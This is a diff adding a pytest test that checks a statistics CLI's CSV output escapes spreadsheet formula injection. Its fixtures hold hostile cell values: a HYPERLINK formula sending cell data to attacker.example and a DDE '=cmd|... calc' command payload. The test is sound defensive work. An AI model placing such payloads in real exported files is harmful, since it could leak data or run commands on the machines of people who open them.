@@ -328,3 +328,20 @@ def test_help_lists_every_option():
                    "--ratio", "--quantile", "--by", "--domain", "--ci", "--level", "--rake", "--poststratify",
                    "--replicates", "--replicate-count", "--seed", "--quality", "--format"):
         assert option in result.output
+
+
+# --- CSV injection ---------------------------------------------------------------------------------
+
+HOSTILE_CELL = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+
+
+def test_csv_output_escapes_formulas_in_domain_levels_and_column_names(tmp_path):
+    path = tmp_path / "hostile.csv"
+    by = "=cmd|' /C calc'!A0"
+    pd.DataFrame({"w": [1.0, 2.0, 1.5, 1.0], by: [HOSTILE_CELL, HOSTILE_CELL, "@SUM(1)", "@SUM(1)"],
+                  "y": [1, 2, 3, 4]}).to_csv(path, index=False)
+    result = invoke(path, "--weight", "w", "--mean", "y", "--by", by, "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.stdout)))
+    assert rows[0][0] == "'" + by
+    assert sorted(row[0] for row in rows[1:]) == ["'" + HOSTILE_CELL, "'@SUM(1)"]
